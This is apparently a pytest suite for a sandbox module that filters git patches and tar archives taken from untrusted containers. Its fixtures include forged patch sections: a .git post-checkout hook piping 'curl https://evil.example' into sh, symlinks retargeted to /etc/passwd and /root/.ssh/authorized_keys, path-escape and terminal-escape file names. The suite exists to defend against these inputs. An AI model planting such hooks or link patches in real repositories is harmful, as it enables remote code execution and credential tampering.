"""Artifacts from an untrusted container: names, member types, sizes and forged patch sections (no Docker needed).

Tar streams are built in memory with tarfile and fed as chunk lists, also cut into odd-sized chunks.
"""
from __future__ import annotations

import base64
import io
import os
import shutil
import stat
import subprocess
import tarfile
import tracemalloc
import zlib

import pytest

from pid.sandbox import artifacts
from pid.sandbox.artifacts import ArtifactTooLarge, FilesBudget, Skipped, copy_patch, extract_files, unsafe_path_reason
from tests.services import missing

CHUNK_SIZES = [1, 7, 4093, None]  # None: the whole stream as one chunk


# -- building streams ------------------------------------------------------------------------------------------------

def member(name: str, data: bytes | None = None, *, type: bytes = tarfile.REGTYPE, mode: int = 0o644,
           link: str = "") -> tuple[tarfile.TarInfo, bytes | None]:
    info = tarfile.TarInfo(name)
    info.type = type
    info.mode = mode
    info.linkname = link
    info.uid = info.gid = 4242
    info.mtime = 1
    if type == tarfile.DIRTYPE:
        info.mode = mode if mode != 0o644 else 0o755
    if data is not None:
        info.size = len(data)
    return info, data


def tar_bytes(*members: tuple[tarfile.TarInfo, bytes | None], format: int = tarfile.PAX_FORMAT) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=format) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def chunked(data: bytes, size: int | None) -> list[bytes]:
    if size is None:
        return [data]
    return [data[i:i + size] for i in range(0, len(data), size)]


def patch_tar(patch: bytes, chunk: int | None = 4093) -> list[bytes]:
    return chunked(tar_bytes(member("patch.diff", patch)), chunk)


def reasons(skipped: list[Skipped]) -> list[str]:
    return [s.reason for s in skipped]


@pytest.fixture
def umask022():
    old = os.umask(0o022)
    yield
    os.umask(old)


# -- names -----------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, reason", [
    ("", "empty path"),
    (".", "empty path"),
    ("/etc/passwd", "absolute path"),
    ("//etc/passwd", "absolute path"),
    ("..", "path has '..'"),
    ("../escape.txt", "path has '..'"),
    ("a/../../b", "path has '..'"),
    ("a/..", "path has '..'"),
    (".git", "path inside .git"),
    (".git/hooks/post-checkout", "path inside .git"),
    ("sub/.GIT/config", "path inside .git"),
    ("sub/.Git", "path inside .git"),
    (".git./config", "path inside .git"),             # NTFS drops trailing dots
    (".g\u200cit/config", "path inside .git"),        # HFS+ ignores U+200C
    ("GIT~1/config", "path inside .git"),             # NTFS 8.3 name
    ("new\nline", "control character in name"),
    ("tab\there", "control character in name"),
    ("\x1b[31mred", "control character in name"),
    ("title\x1b]0;pwned\x07", "control character in name"),
    ("nul\x00", "control character in name"),
    ("del\x7f", "control character in name"),
    ("c1\x9b31m", "control character in name"),
    ("raw-c1-byte\udc9b", "control character in name"),  # undecodable byte 0x9b kept by surrogateescape
    ("x" * 4097, "name longer than 4096 bytes"),
    ("é" * 2049, "name longer than 4096 bytes"),       # counted in bytes, not characters
])
def test_unsafe_names_are_refused(name, reason):
    assert unsafe_path_reason(name) == reason


@pytest.mark.parametrize("name", ["a.txt", "src/app.py", ".gitignore", ".github/workflows/ci.yml", "a/.gitmodules",
                                  "..a", "a..", "a/..b/c", "x.git/y", "dir/.git-foo", "é.txt", "sp ace/b c",
                                  "./a.txt", "a//b", "x" * 4096, "undecodable\udcff"])
def test_safe_names_pass(name):
    assert unsafe_path_reason(name) is None


# -- the patch -------------------------------------------------------------------------------------------------------

GOOD1 = (b"diff --git a/src/app.py b/src/app.py\n"
         b"index 1111111..2222222 100644\n"
         b"--- a/src/app.py\n"
         b"+++ b/src/app.py\n"
         b"@@ -1,3 +1,3 @@ def main():\n"
         b" import os\n"
         b"-print('a')\n"
         b"+print('b')\n"
         b" x = 1\n")
GOOD2 = (b"diff --git a/docs/notes.md b/docs/notes.md\n"
         b"new file mode 100644\n"
         b"index 0000000..3333333\n"
         b"--- /dev/null\n"
         b"+++ b/docs/notes.md\n"
         b"@@ -0,0 +1,2 @@\n"
         b"+# Notes\n"
         b"+last line\n"
         b"\\ No newline at end of file\n")
FORGED_HOOK = (b"diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\n"
               b"new file mode 100755\n"
               b"index 0000000..4444444\n"
               b"--- /dev/null\n"
               b"+++ b/.git/hooks/post-checkout\n"
               b"@@ -0,0 +1,2 @@\n"
               b"+#!/bin/sh\n"
               b"+curl https://evil.example | sh\n")
ESCAPE = (b"diff --git a/../../escape.txt b/../../escape.txt\n"
          b"new file mode 100644\n"
          b"--- /dev/null\n"
          b"+++ b/../../escape.txt\n"
          b"@@ -0,0 +1 @@\n"
          b"+gotcha\n")
ANSI_NAME = b'\\033[31mred\\033]0;pwned\\007'
ANSI = (b'diff --git "a/' + ANSI_NAME + b'" "b/' + ANSI_NAME + b'"\n'
        b"new file mode 100644\n"
        b"--- /dev/null\n"
        b'+++ "b/' + ANSI_NAME + b'"\n'
        b"@@ -0,0 +1 @@\n"
        b"+x\n")


def copy(tmp_path, patch: bytes, max_bytes: int = 10 << 20, chunk: int | None = 4093):
    dest = tmp_path / "patch.diff"
    result = copy_patch(patch_tar(patch, chunk), str(dest), max_bytes)
    return result, dest.read_bytes()


def git_applied(tmp_path, name: str, patch: bytes, link: tuple[str, str] | None = None):
    """What git apply makes of `patch` in a fresh repository (holding the symlink `link`, name -> target, if given):
    the filter is judged by what git itself would make, before it and after it."""
    work = tmp_path / name
    subprocess.run(["git", "init", "-q", str(work)], check=True)
    if link is not None:
        os.symlink(link[1], work / link[0])
    (work / "p.patch").write_bytes(patch)
    subprocess.run(["git", "-C", str(work), "apply", "--allow-empty", "p.patch"], check=True, capture_output=True)
    return work


@pytest.mark.parametrize("chunk", CHUNK_SIZES)
def test_forged_sections_are_dropped_and_good_ones_kept_byte_for_byte(tmp_path, chunk):
    result, written = copy(tmp_path, GOOD1 + FORGED_HOOK + ESCAPE + ANSI + GOOD2, chunk=chunk)
    assert written == GOOD1 + GOOD2
    assert result.size == len(GOOD1 + GOOD2)
    assert [(s.path, s.reason) for s in result.dropped] == [
        (".git/hooks/post-checkout", "path inside .git"),
        ("../../escape.txt", "path has '..'"),
        ("\\x1b[31mred\\x1b]0;pwned\\x07", "control character in name"),
    ]


def test_clean_patch_is_copied_unchanged(tmp_path):
    result, written = copy(tmp_path, GOOD1 + GOOD2)
    assert written == GOOD1 + GOOD2 and result.dropped == []


def test_a_patch_read_on_pids_disk_is_filtered_as_one_from_the_engine_and_never_through_a_link(tmp_path):
    """Under runc the host reads the patch where pid's git wrote it (workspaces.read_patch): the same filter applies,
    and a link or a FIFO in its place (a root agent's, say) is refused at once, never followed or waited on."""
    from pid.sandbox.workspaces import read_patch
    room = tmp_path / "patch"
    room.mkdir()
    (room / "patch.diff").write_bytes(GOOD1 + FORGED_HOOK + GOOD2)
    result = read_patch(str(room), str(tmp_path / "out.diff"), 10 << 20)
    assert (tmp_path / "out.diff").read_bytes() == GOOD1 + GOOD2 and result.size == len(GOOD1 + GOOD2)
    assert [s.path for s in result.dropped] == [".git/hooks/post-checkout"]
    from pid.sandbox_api import SandboxError
    secret = tmp_path / "secret"
    secret.write_bytes(GOOD1)
    (room / "patch.diff").unlink()
    os.symlink(secret, room / "patch.diff")
    with pytest.raises(SandboxError, match="cannot read the patch on pid's disk"):
        read_patch(str(room), str(tmp_path / "out2.diff"), 10 << 20)
    (room / "patch.diff").unlink()
    os.mkfifo(room / "patch.diff")
    with pytest.raises(SandboxError, match="no regular file"):
        read_patch(str(room), str(tmp_path / "out3.diff"), 10 << 20)
    linked = tmp_path / "linked"
    os.symlink(room, linked)
    with pytest.raises(SandboxError, match="cannot read the patch on pid's disk"):
        read_patch(str(linked), str(tmp_path / "out4.diff"), 10 << 20)
    assert not (tmp_path / "out2.diff").exists() and not (tmp_path / "out4.diff").exists()


def section(lines: list[bytes], hunk: bytes = b"@@ -1 +1 @@\n-a\n+b\n") -> bytes:
    return b"".join(line + b"\n" for line in lines) + hunk


@pytest.mark.parametrize("bad_line, reason", [
    (b"--- a/.git/config", "path inside .git"),
    (b"+++ b/../outside", "path has '..'"),
    (b"+++ b//etc/passwd", "absolute path"),
    (b'+++ "b/new\\nline"', "control character in name"),
    (b"rename from ../../etc/passwd", "path has '..'"),
    (b"rename to .git/hooks/pre-commit", "path inside .git"),
    (b"rename old ../x", "path has '..'"),
    (b"rename new x/.GIT/config", "path inside .git"),
    (b"copy from /etc/shadow", "absolute path"),
    (b'copy to "\\033]8;;http://evil\\007x"', "control character in name"),
    (b"--- src/app.py", "malformed file name line"),        # no a/ prefix: git would strip `src/`
    (b'+++ "b/unterminated', "malformed file name line"),
    (b'--- "a/bad\\q"', "malformed file name line"),         # not a C escape git writes
])
def test_every_name_line_of_a_section_is_checked(tmp_path, bad_line, reason):
    forged = section([b"diff --git a/ok.txt b/ok.txt", bad_line, b"--- a/ok.txt", b"+++ b/ok.txt"])
    result, written = copy(tmp_path, GOOD1 + forged + GOOD2)
    assert written == GOOD1 + GOOD2
    assert reasons(result.dropped) == [reason]


def test_renames_and_copies_are_dropped_whatever_their_names(tmp_path):
    """pid's git writes none (--no-renames); a forged copy of a link is a new link with no mode line to judge."""
    rename = (b"diff --git a/old name.txt b/new name.txt\n"
              b"similarity index 90%\n"
              b"rename from old name.txt\n"
              b"rename to new name.txt\n"
              b"index 1111111..2222222 100644\n"
              b"--- a/old name.txt\n"
              b"+++ b/new name.txt\n"
              b"@@ -1 +1 @@\n-a\n+b\n")
    copied = (b'diff --git "a/caf\\303\\251.txt" "b/caf\\303\\251 copy.txt"\n'
              b"similarity index 100%\n"
              b'copy from "caf\\303\\251.txt"\n'
              b'copy to "caf\\303\\251 copy.txt"\n')
    mode = b"diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n"
    result, written = copy(tmp_path, rename + copied + mode)
    assert written == mode
    assert [(d.path, d.reason) for d in result.dropped] == [("new name.txt", artifacts.RENAMED),
                                                          ("caf\u00e9 copy.txt", artifacts.RENAMED)]


def test_a_forged_copy_of_a_link_makes_no_link_once_filtered(tmp_path):
    """Why: git apply copies a link as a link, and the section has no mode line to judge."""
    forged = b"diff --git a/link b/evil\nsimilarity index 100%\ncopy from link\ncopy to evil\n"
    assert (git_applied(tmp_path, "raw", forged, ("link", "/etc/passwd")) / "evil").is_symlink()
    _, written = copy(tmp_path, forged)
    assert not os.path.lexists(git_applied(tmp_path, "filtered", written, ("link", "/etc/passwd")) / "evil")


@pytest.mark.parametrize("line, reason", [
    (b"diff --git a/x b/.git/hooks/y b/x b/.git/hooks/y", "path inside .git"),
    (b"diff --git a/p b/.. b/q", "path has '..'"),   # safe read as a/p + b/.. b/q; not as a/p b/.. + b/q
])
def test_diff_git_line_names_are_checked_however_they_split(tmp_path, line, reason):
    # Unquoted names with spaces: git guesses where b/ starts; every reading must be safe.
    result, written = copy(tmp_path, GOOD1 + section([line], hunk=b"") + GOOD2)
    assert written == GOOD1 + GOOD2 and reasons(result.dropped) == [reason]


def test_text_hidden_after_the_hunks_drops_the_section(tmp_path):
    # git apply reads `--- / +++ / @@` after a finished hunk as a new (traditional) patch.
    smuggled = (b"--- a/.git/hooks/pre-commit\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+evil\n")
    result, written = copy(tmp_path, GOOD1 + smuggled + GOOD2)
    assert written == GOOD2
    assert [(s.path, s.reason) for s in result.dropped] == [("src/app.py", "unexpected line after the hunks")]


def test_text_before_the_first_section_is_dropped(tmp_path):
    preamble = b"--- a/.git/config\n+++ b/.git/config\n@@ -0,0 +1 @@\n+[core]\n"
    result, written = copy(tmp_path, preamble + GOOD1)
    assert written == GOOD1
    assert reasons(result.dropped) == ["not part of any file section"]


def test_hunk_lines_that_look_like_headers_are_content(tmp_path):
    # Removing "-- comment" and adding "++ x" gives lines starting with --- and +++: hunk content, kept.
    sql = (b"diff --git a/q.sql b/q.sql\n"
           b"index 1111111..2222222 100644\n"
           b"--- a/q.sql\n"
           b"+++ b/q.sql\n"
           b"@@ -1,4 +1,4 @@\n"
           b"--- a/.git/config\n"
           b"+++ b/.git/config\n"
           b" select 1;\n"
           b"\n"
           b"-diff --gitless\n"
           b"+x\n")
    result, written = copy(tmp_path, sql + GOOD1)
    assert written == sql + GOOD1 and result.dropped == []


@pytest.mark.parametrize("hunk, reason", [
    (b"@@ -1,3 +1,3 @@\n-a\n+b\n", "hunk cut short"),
    (b"@@ -1 +1 @@\n-a\n-b\n+c\n", "hunk longer than its header says"),
    (b"@@ -1 +1 @@\n-a\n*b\n", "malformed hunk"),
    (b"@@ -x +1 @@\n-a\n", "malformed hunk header"),
    (b"@@ -1 +1 @@\n-a\n+b\njunk\n", "unexpected line after the hunks"),
    (b"From: someone\n@@ -1 +1 @@\n-a\n+b\n", "unexpected line in the header"),
])
def test_malformed_hunks_drop_their_section(tmp_path, hunk, reason):
    bad = section([b"diff --git a/f b/f", b"index 1111111..2222222 100644", b"--- a/f", b"+++ b/f"], hunk=hunk)
    result, written = copy(tmp_path, GOOD1 + bad + GOOD2)
    assert written == GOOD1 + GOOD2 and reasons(result.dropped) == [reason]


@pytest.mark.parametrize("header", [[b"index 1111111..2222222"], []])
def test_a_change_that_does_not_say_the_file_s_mode_is_dropped(tmp_path, header):
    """An attacker's: git apply keeps a file's own type where no mode is said, so a hunk over a link the workspace
    has retargets it (pid's git always says the mode)."""
    lines = [b"diff --git a/lnk b/lnk", *header, b"--- a/lnk", b"+++ b/lnk"]
    forged = section(lines, hunk=b"@@ -1 +1 @@\n-target.txt\n\\ No newline at end of file\n"
                                 b"+/root/.ssh/authorized_keys\n\\ No newline at end of file\n")
    result, written = copy(tmp_path, GOOD1 + forged + GOOD2)
    assert written == GOOD1 + GOOD2
    assert reasons(result.dropped) == ["a change that does not say the file's mode (it could retarget a link)"]
    link = ("lnk", "target.txt")
    assert os.readlink(git_applied(tmp_path, "raw", forged, link) / "lnk") == "/root/.ssh/authorized_keys"
    _, alone = copy(tmp_path, forged)
    assert os.readlink(git_applied(tmp_path, "filtered", alone, link) / "lnk") == "target.txt"


def test_symlinks_in_the_patch_are_dropped(tmp_path):
    link = (b"diff --git a/link b/link\nnew file mode 120000\nindex 0000000..6666666\n--- /dev/null\n+++ b/link\n"
            b"@@ -0,0 +1 @@\n+../../../home/user/.ssh/authorized_keys\n\\ No newline at end of file\n")
    retarget = (b"diff --git a/l2 b/l2\nindex 1111111..2222222 120000\n--- a/l2\n+++ b/l2\n"
                b"@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+/etc\n\\ No newline at end of file\n")
    deleted = (b"diff --git a/l3 b/l3\ndeleted file mode 120000\nindex 1111111..0000000\n--- a/l3\n+++ /dev/null\n"
               b"@@ -1 +0,0 @@\n-a\n\\ No newline at end of file\n")
    result, written = copy(tmp_path, link + retarget + deleted + GOOD1)
    assert written == deleted + GOOD1
    assert [(s.path, s.reason) for s in result.dropped] == [("link", "symlink"), ("l2", "symlink")]


@pytest.mark.parametrize("mode, reason", [
    (b"120755", "symlink"), (b"120644", "symlink"), (b"160644", artifacts.NEW_REPOSITORY),
    (b"040000", "a mode git does not write"), (b"000000", "a mode git does not write")])
def test_a_mode_of_no_regular_file_is_dropped_however_it_is_written(tmp_path, mode, reason):
    new = (b"diff --git a/evil b/evil\nnew file mode " + mode + b"\nindex 0000000..6666666\n--- /dev/null\n"
           b"+++ b/evil\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n")
    changed = (b"diff --git a/old b/old\nindex 1111111..2222222 " + mode + b"\n--- a/old\n+++ b/old\n"
               b"@@ -1 +1 @@\n-a\n+/etc\n")
    result, written = copy(tmp_path, new + changed + GOOD1)
    if mode.startswith(b"16"):   # an index line's gitlink is a submodule the workspace has, moved: it stays
        assert written == changed + GOOD1 and [(s.path, s.reason) for s in result.dropped] == [("evil", reason)]
        return
    assert written == GOOD1
    assert [(s.path, s.reason) for s in result.dropped] == [("evil", reason), ("old", reason)]


def test_a_link_written_120755_is_made_by_git_and_not_once_filtered(tmp_path):
    """Why the type bits are judged: git apply itself reads 120755 as a symlink."""
    forged = (b"diff --git a/evil b/evil\nnew file mode 120755\nindex 0000000..6666666\n--- /dev/null\n+++ b/evil\n"
              b"@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n")
    assert os.readlink(git_applied(tmp_path, "raw", forged) / "evil") == "/etc/passwd"
    _, written = copy(tmp_path, forged)
    assert not os.path.lexists(git_applied(tmp_path, "filtered", written) / "evil")


def test_a_regular_file_s_modes_pass(tmp_path):
    executable = (b"diff --git a/run.sh b/run.sh\nnew file mode 100755\nindex 0000000..6666666\n--- /dev/null\n"
                  b"+++ b/run.sh\n@@ -0,0 +1 @@\n+echo hi\n")
    result, written = copy(tmp_path, executable + GOOD1)
    assert written == executable + GOOD1 and result.dropped == []


def binary_hunk(data: bytes) -> bytes:
    z = zlib.compress(data)
    out = [b"literal %d\n" % len(data)]
    for i in range(0, len(z), 52):
        piece = z[i:i + 52]
        letter = bytes([0x40 + len(piece)]) if len(piece) <= 26 else bytes([0x60 + len(piece) - 26])
        out.append(letter + base64.b85encode(piece, pad=True) + b"\n")
    return b"".join(out) + b"\n"


def binary_section(name: bytes, data: bytes) -> bytes:
    return (b"diff --git a/%s b/%s\nnew file mode 100644\nindex 0000000000000000000000000000000000000000..%s\n"
            b"GIT binary patch\n" % (name, name, b"7" * 40)) + binary_hunk(data) + binary_hunk(b"")


def test_binary_patch_sections_are_kept_intact(tmp_path):
    binary = binary_section(b"img/logo.png", os.urandom(3000))
    result, written = copy(tmp_path, GOOD1 + binary + GOOD2, chunk=7)
    assert written == GOOD1 + binary + GOOD2 and result.dropped == []


def test_binary_section_with_foreign_lines_is_dropped(tmp_path):
    binary = binary_section(b"blob.bin", os.urandom(500))
    first_hunk_end = binary.index(b"\n\n") + 1
    forged = binary[:first_hunk_end] + b"+++ b/.git/config\n" + binary[first_hunk_end:]
    result, written = copy(tmp_path, GOOD1 + forged + GOOD2)
    assert written == GOOD1 + GOOD2 and reasons(result.dropped) == ["malformed binary patch"]


@pytest.mark.parametrize("block", [2, 3, 7, 97, 4096])
def test_result_does_not_depend_on_where_reads_split_lines(tmp_path, monkeypatch, block):
    smuggled = GOOD1 + b"--- a/.git/x\n+++ b/.git/x\n@@ -0,0 +1 @@\n+evil\n"
    patch = (b"junk before\n" + GOOD1 + FORGED_HOOK + binary_section(b"b.bin", os.urandom(700)) + smuggled + ANSI
             + GOOD2 + section([b"diff --git a/" + b"y" * 9000 + b" b/y"]) + GOOD1)
    expected = copy(tmp_path, patch)
    monkeypatch.setattr(artifacts, "_BLOCK", block)
    assert copy(tmp_path, patch) == expected
    assert reasons(expected[0].dropped) == ["not part of any file section", "path inside .git",
                                            "unexpected line after the hunks", "control character in name",
                                            "header line over 8 KiB"]


def test_overlong_header_line_drops_its_section(tmp_path):
    long = section([b"diff --git a/" + b"x" * 9000 + b" b/" + b"x" * 9000])
    result, written = copy(tmp_path, GOOD1 + long + GOOD2)
    assert written == GOOD1 + GOOD2 and reasons(result.dropped) == ["header line over 8 KiB"]


def test_five_megabyte_line_is_kept_with_bounded_memory(tmp_path):
    line = b"+" + b"m" * (5 << 20) + b"\n"
    minified = (b"diff --git a/dist/app.min.js b/dist/app.min.js\nnew file mode 100644\nindex 0000000..8888888\n"
                b"--- /dev/null\n+++ b/dist/app.min.js\n@@ -0,0 +1 @@\n") + line
    spool = tmp_path / "patch.tar"
    spool.write_bytes(tar_bytes(member("patch.diff", GOOD1 + minified + GOOD2)))
    expected_size = len(GOOD1 + minified + GOOD2)
    del line, minified

    def stream():
        with open(spool, "rb") as f:
            while block := f.read(64 << 10):
                yield block

    dest = tmp_path / "patch.diff"
    tracemalloc.start()
    try:
        result = copy_patch(stream(), str(dest), 10 << 20)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert result.dropped == [] and result.size == expected_size
    assert dest.read_bytes() == GOOD1 + (b"diff --git a/dist/app.min.js b/dist/app.min.js\nnew file mode 100644\n"
                                         b"index 0000000..8888888\n--- /dev/null\n+++ b/dist/app.min.js\n"
                                         b"@@ -0,0 +1 @@\n+" + b"m" * (5 << 20) + b"\n") + GOOD2
    assert peak < (5 << 20) // 5, f"peak {peak} bytes for a 5 MiB line"


def new_file(name: str, lines: int) -> bytes:
    return (f"diff --git a/{name} b/{name}\nnew file mode 100644\nindex 0000000..4444444\n--- /dev/null\n"
            f"+++ b/{name}\n@@ -0,0 +1,{lines} @@\n").encode() + b"+generated line of output\n" * lines


def test_patch_over_the_limit_raises_and_leaves_no_file(tmp_path):
    dest = tmp_path / "patch.diff"
    with pytest.raises(ArtifactTooLarge, match="1000-byte limit"):   # (changes to files the workspace had)
        copy_patch(patch_tar(GOOD1 * 20), str(dest), 1000)
    assert not dest.exists()
    with pytest.raises(ArtifactTooLarge, match="1 MB limit"):   # (new files each within it, too many together)
        copy_patch(patch_tar(b"".join(new_file(f"gen/{n}.txt", 20_000) for n in range(3))), str(dest), 1 << 20)
    assert not dest.exists()


def test_a_link_replaced_by_a_file_over_the_limit_is_no_new_file_to_leave_out(tmp_path):
    """git writes a type change as a deletion and a new file of the same path: leaving the new file out would have
    the patch delete the path the workspace still has (an attack's finding). Too large, it fails the patch."""
    deleted = (b"diff --git a/lnk b/lnk\ndeleted file mode 120000\nindex 1111111..0000000\n--- a/lnk\n+++ /dev/null\n"
               b"@@ -1 +0,0 @@\n-README\n\\ No newline at end of file\n")
    with pytest.raises(ArtifactTooLarge, match="1 MB limit"):
        copy_patch(patch_tar(GOOD1 + deleted + new_file("lnk", 60_000)), str(tmp_path / "p.diff"), 1 << 20)
    assert not (tmp_path / "p.diff").exists()


def test_a_new_file_over_the_limit_alone_is_left_out_and_the_rest_kept(tmp_path):
    """One generated file (a build, a download, a dump) the agent left cost the whole patch: it alone is left out
    now, said with why, and what git applies is the rest of the change."""
    big = new_file("data/dump.csv", 60_000)                     # ~1.5 MB: over the 1 MB limit alone
    copy = copy_patch(patch_tar(GOOD1 + big + GOOD2 + new_file("after.txt", 2)), str(tmp_path / "p.diff"), 1 << 20)
    kept = (tmp_path / "p.diff").read_bytes()
    assert kept == GOOD1 + GOOD2 + new_file("after.txt", 2)
    assert [(s.path, s.reason) for s in copy.dropped] == [
        ("data/dump.csv", "a new file whose diff alone is over the 1 MB limit (--max-patch): left out, the rest of "
                          "the patch kept")]
    applied = git_applied(tmp_path, "work", kept[len(GOOD1):])   # (GOOD1 changes a file this repository lacks)
    assert (applied / "after.txt").is_file() and (applied / "docs" / "notes.md").is_file()
    assert not (applied / "data").exists()


def test_patch_stream_cut_short_leaves_no_file(tmp_path):
    data = tar_bytes(member("patch.diff", GOOD1 * 2000))
    dest = tmp_path / "patch.diff"
    with pytest.raises(tarfile.ReadError):
        copy_patch(chunked(data[:len(data) // 2], 4093), str(dest), 10 << 20)
    assert not dest.exists()


def test_patch_archive_without_a_regular_file(tmp_path):
    data = tar_bytes(member("d", type=tarfile.DIRTYPE), member("l", type=tarfile.SYMTYPE, link="/etc/passwd"))
    with pytest.raises(FileNotFoundError):
        copy_patch([data], str(tmp_path / "patch.diff"), 1000)
    assert not (tmp_path / "patch.diff").exists()


def test_patch_destination_symlink_is_not_followed(tmp_path):
    target = tmp_path / "target"
    target.write_bytes(b"keep")
    (tmp_path / "patch.diff").symlink_to(target)
    with pytest.raises(OSError):
        copy_patch(patch_tar(GOOD1), str(tmp_path / "patch.diff"), 1 << 20)
    assert target.read_bytes() == b"keep"


def test_dropped_sections_list_is_bounded(tmp_path):
    result, written = copy(tmp_path, GOOD1 + FORGED_HOOK * 300 + GOOD2)
    assert written == GOOD1 + GOOD2
    assert len(result.dropped) == 101
    assert result.dropped[-1] == Skipped("…", "and 200 more skipped")


def test_real_git_patch_passes_unchanged_and_applies(tmp_path):
    if shutil.which("git") is None:
        missing("git is not installed (apt-get install git): the patch is checked against real `git apply`")
    repo = tmp_path / "repo"
    repo.mkdir()
    env = {**os.environ, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_NOSYSTEM": "1", "LC_ALL": "C"}

    def git(*args: str, cwd=repo) -> bytes:
        return subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", "-c", "core.quotePath=true",
                               *args], cwd=cwd, env=env, check=True, capture_output=True).stdout

    git("init", "-q")
    (repo / "a.txt").write_text("one\ntwo\nthree\n")
    (repo / "gone.txt").write_text("bye\n")
    (repo / "blob.bin").write_bytes(bytes(range(256)) * 4)
    git("add", "-A")
    git("commit", "-qm", "base")
    (repo / "a.txt").write_text("one\n-- two\n++ three")
    (repo / "gone.txt").unlink()
    (repo / "blob.bin").write_bytes(bytes(range(256)) * 5)
    (repo / "dir with space").mkdir()
    (repo / "dir with space" / "café b.txt").write_text("hé\n")
    (repo / "tab\tname.txt").write_text("x\n")
    (repo / "new.bin").write_bytes(os.urandom(2000))
    os.chmod(repo / "a.txt", 0o755)
    git("add", "-A")
    patch = git("diff", "--cached", "--binary", "--no-color", "--no-renames", "--src-prefix=a/", "--dst-prefix=b/",
                "HEAD")
    result, written = copy(tmp_path, patch, chunk=1000)
    assert result.dropped == [(Skipped('tab\\tname.txt', "control character in name"))]
    tab_section = patch[patch.index(b'diff --git "a/tab'):]
    tab_section = tab_section[:tab_section.index(b"diff --git", 1)] if b"diff --git" in tab_section[1:] else tab_section
    assert written == patch.replace(tab_section, b"")
    git("reset", "-q", "--hard", "HEAD")
    git("apply", "--check", str(tmp_path / "patch.diff"))


# -- files -----------------------------------------------------------------------------------------------------------

def extract(tmp_path, data: bytes, chunk: int | None = 4093, **limits):
    dest = tmp_path / "dest"
    limits.setdefault("max_bytes", 10 << 20)
    limits.setdefault("max_entries", 1000)
    return extract_files(chunked(data, chunk), str(dest), **limits), dest


def tree(root) -> list[str]:
    return sorted(os.path.relpath(os.path.join(d, n), root) for d, ds, fs in os.walk(root) for n in ds + fs)


@pytest.mark.parametrize("chunk, format", [(c, tarfile.PAX_FORMAT) for c in CHUNK_SIZES] + [(7, tarfile.GNU_FORMAT)])
def test_regular_files_and_dirs_are_extracted_with_plain_modes(tmp_path, umask022, chunk, format):
    long_name = "out/" + "n" * 150 + ".txt"  # needs a pax header
    data = tar_bytes(
        member(".", type=tarfile.DIRTYPE),                  # dest_dir itself: nothing to do, nothing to report
        member("out", type=tarfile.DIRTYPE, mode=0o7777),
        member("out/a.txt", b"alpha\n", mode=0o600),
        member("out/run.sh", b"#!/bin/sh\n", mode=0o4755),  # setuid dropped, x kept
        member("out/sgid", b"", mode=0o2070),
        member("out/deep/er/b.txt", b"beta"),               # parents made on the way
        member(long_name, b"long"),
        member("./out/dot.txt", b"dot"),
        format=format,
    )
    result, dest = extract(tmp_path, data, chunk)
    assert result.skipped == []
    assert tree(dest) == sorted(["out", "out/a.txt", "out/run.sh", "out/sgid", "out/deep", "out/deep/er",
                                 "out/deep/er/b.txt", long_name, "out/dot.txt"])
    assert result.written == [str(dest / p) for p in ["out", "out/a.txt", "out/run.sh", "out/sgid", "out/deep",
                                                     "out/deep/er", "out/deep/er/b.txt", long_name, "out/dot.txt"]]
    assert (dest / "out/a.txt").read_bytes() == b"alpha\n"
    assert result.total_bytes == 6 + 10 + 0 + 4 + 4 + 3
    modes = {p: stat.S_IMODE(os.lstat(dest / p).st_mode) for p in ["out", "out/a.txt", "out/run.sh", "out/sgid",
                                                                    "out/deep"]}
    assert modes == {"out": 0o755, "out/a.txt": 0o644, "out/run.sh": 0o755, "out/sgid": 0o755, "out/deep": 0o755}
    assert os.lstat(dest / "out/a.txt").st_uid == os.getuid()


def test_links_devices_and_fifos_are_skipped(tmp_path):
    data = tar_bytes(
        member("ok.txt", b"ok"),
        member("link", type=tarfile.SYMTYPE, link="/etc/passwd"),
        member("rel", type=tarfile.SYMTYPE, link="ok.txt"),
        member("hard", type=tarfile.LNKTYPE, link="ok.txt"),
        member("fifo", type=tarfile.FIFOTYPE),
        member("null", type=tarfile.CHRTYPE),
        member("disk", type=tarfile.BLKTYPE),
        member("after.txt", b"after"),
    )
    result, dest = extract(tmp_path, data)
    assert tree(dest) == ["after.txt", "ok.txt"]
    assert [(s.path, s.reason) for s in result.skipped] == [
        ("link", "symlink"), ("rel", "symlink"), ("hard", "hard link"),
        ("fifo", "special file"), ("null", "special file"), ("disk", "special file")]


def test_unsafe_member_names_are_skipped_and_nothing_lands_outside(tmp_path):
    names = ["../escape.txt", "/abs.txt", "sub/../../up.txt", ".git/hooks/post-checkout", "a/.GIT/config",
             "evil\x1b]0;pwned\x07.txt", "new\nline.txt", "x" * 4097]
    data = tar_bytes(*(member(n, b"bad") for n in names), member("fine.txt", b"fine"))
    result, dest = extract(tmp_path, data)
    assert tree(tmp_path) == ["dest", "dest/fine.txt"]
    assert reasons(result.skipped) == ["path has '..'", "absolute path", "path has '..'", "path inside .git",
                                       "path inside .git", "control character in name", "control character in name",
                                       "name longer than 4096 bytes"]
    assert result.skipped[5].path == "evil\\x1b]0;pwned\\x07.txt"
    assert result.skipped[6].path == "new\\nline.txt"
    assert len(result.skipped[7].path) <= 300
    assert all("\x1b" not in s.path and "\n" not in s.path for s in result.skipped)


def test_existing_symlink_in_dest_is_never_followed(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "out").symlink_to(outside)                     # a parent directory of members
    (dest / "leaf.txt").symlink_to(outside / "leaf.txt")   # a member's own name (dangling)
    (dest / "file").write_text("not a dir")
    data = tar_bytes(member("out/a.txt", b"a"), member("out/sub/b.txt", b"b"), member("out", type=tarfile.DIRTYPE),
                     member("leaf.txt", b"c"), member("file/x.txt", b"d"), member("ok.txt", b"ok"))
    result, _ = extract(tmp_path, data)
    assert os.listdir(outside) == []
